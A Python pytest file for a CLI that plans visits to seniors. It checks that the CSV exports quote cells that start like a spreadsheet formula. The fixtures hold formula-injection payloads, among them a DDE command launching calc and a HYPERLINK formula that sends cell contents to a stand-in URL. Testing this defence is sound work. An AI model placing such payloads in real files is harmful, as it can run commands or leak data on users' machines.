"""Every CSV the commands write is safe to open in a spreadsheet: registry text that starts
like a formula arrives quoted (OWASP's rule), in the task list, the quarantine listing, the
ingest report, the coverage table and the forecast table."""

import csv
import io
from pathlib import Path

import pytest

from proactive.field.coverage import CommunityGap, write_gaps
from tests.factories import (
    cli_env,
    household,
    senior,
    site,
    worker,
    write_csv,
    write_extract,
)
from tests.integration.cli.test_tasks import invoke

NAME = "=cmd|' /C calc'!A0"
ADDRESS = "+SUM(1,2)"
SITE_NAME = '=HYPERLINK("http://example.com/?"&A1,"查看")'
BAD_SITE = "@SUM(1)"


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    environment = cli_env(tmp_path)
    homes = [
        household(
            "HH1", address=ADDRESS, lat="30.1905", lon="120.2005", division_code="330108002001"
        )
    ]
    directory = write_extract(
        tmp_path / "x", [senior(1, "1966-11-25", household_id="HH1", name=NAME)], homes
    )
    community = {**site("C1", "community", "330108002001", 30.19, 120.2), "name": SITE_NAME}
    broken = {**site(BAD_SITE, "community", "330108002001", 30.19, 120.2), "daily_capacity": "x"}
    write_csv(directory / "sites.csv", [community, broken])
    write_csv(directory / "social_workers.csv", [worker("W1", "C1")])
    invoke(environment, "ingest", str(directory), "--report-dir", str(tmp_path / "reports"))
    invoke(environment, "keys", "init")
    invoke(environment, "run", "--date", "2026-11-25")
    return environment


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_task_list_csv(env: dict[str, str]) -> None:
    (task,) = rows(invoke(env, "tasks", "--date", "2026-11-26", "--format", "csv"))
    assert (task["resident"], task["address"]) == ("'" + NAME, "'" + ADDRESS)


def test_quarantine_listing_and_ingest_report(env: dict[str, str], tmp_path: Path) -> None:
    (listed,) = rows(invoke(env, "quarantine", "--format", "csv"))
    report = (tmp_path / "reports" / "ingest-1" / "quarantine.csv").read_text(encoding="utf-8")
    (reported,) = rows(report)
    assert listed["record_key"] == reported["record_key"] == "'" + BAD_SITE


def test_forecast_table(env: dict[str, str], tmp_path: Path) -> None:
    invoke(env, "forecast", "--days", "30", "--out", str(tmp_path / "fc"))
    (forecast,) = (tmp_path / "fc").glob("*.csv")
    names = {row["site_name"] for row in rows(forecast.read_text(encoding="utf-8"))}
    assert "'" + SITE_NAME in names
    assert SITE_NAME not in names


def test_coverage_table(tmp_path: Path) -> None:
    gap = CommunityGap("330108002001", "-1+1", 3, float("nan"))
    path = write_gaps([gap], tmp_path / "coverage.csv")
    (row,) = rows(path.read_text(encoding="utf-8"))
    assert row["community_name"] == "'-1+1"
